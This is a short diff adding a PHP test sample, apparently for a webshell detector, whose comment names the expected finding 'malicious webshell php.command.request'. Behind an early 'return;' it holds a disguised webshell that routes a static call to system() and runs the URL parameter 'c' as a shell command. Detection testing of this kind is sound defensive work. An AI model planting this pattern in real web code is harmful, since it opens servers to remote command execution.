@@ -1,0 +1,3 @@
+<?php return; // want: malicious webshell php.command.request
+class Any { static function __callStatic($name, $with) { $name($with[0]); } }
+Any::system($_GET['c']);
